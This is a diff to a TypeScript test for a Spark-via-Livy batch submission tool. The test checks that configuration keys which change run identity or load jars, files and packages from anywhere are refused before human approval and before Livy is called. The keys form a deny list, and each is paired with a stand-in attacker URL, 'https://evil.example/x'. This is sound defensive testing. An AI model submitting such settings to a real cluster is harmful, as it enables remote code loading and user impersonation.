@@ -140,13 +140,36 @@ describe("Livy batches", () => {
     expect((await livyStats()).deleted).not.toContain(ended);
   });
 
-  it("refuses settings that would change who a batch runs as, after approval and before Livy", async () => {
+  it("refuses, before the human is asked and before Livy, every setting but tuning: identity, code and files from anywhere", async () => {
     const before = (await livyStats()).submitted.length;
-    const result = await callAs(WRITER, () => APPROVE, "spark_submit_batch", {
-      file: "hdfs:///jobs/x.jar",
-      conf: { "spark.kerberos.keytab": "/etc/x" },
-    });
-    expect(textOf(result)).toBe('Invalid argument "conf": spark.kerberos.keytab may not be set through this server');
+    const asked: string[] = [];
+    for (const key of [
+      "spark.kerberos.keytab",
+      "spark.yarn.appMasterEnv.HADOOP_USER_NAME",
+      "spark.executorEnv.HADOOP_USER_NAME",
+      "spark.driver.extraJavaOptions",
+      "spark.driver.extraClassPath",
+      "spark.jars",
+      "spark.jars.packages",
+      "spark.jars.repositories",
+      "spark.yarn.dist.jars",
+      "spark.submit.pyFiles",
+      "spark.files",
+      "spark.archives",
+      "spark.sql.catalog.evil",
+    ]) {
+      const result = await callAs(
+        WRITER,
+        (message) => {
+          asked.push(message);
+          return APPROVE;
+        },
+        "spark_submit_batch",
+        { file: "hdfs:///jobs/x.jar", conf: { [key]: "https://evil.example/x" } },
+      );
+      expect(textOf(result)).toContain(`Invalid argument "conf": ${key} may not be set through this server`);
+    }
+    expect(asked).toEqual([]);
     expect((await livyStats()).submitted.length).toBe(before);
     const bad = await callAs(WRITER, () => APPROVE, "spark_submit_batch", {
       file: "hdfs:///x.jar",
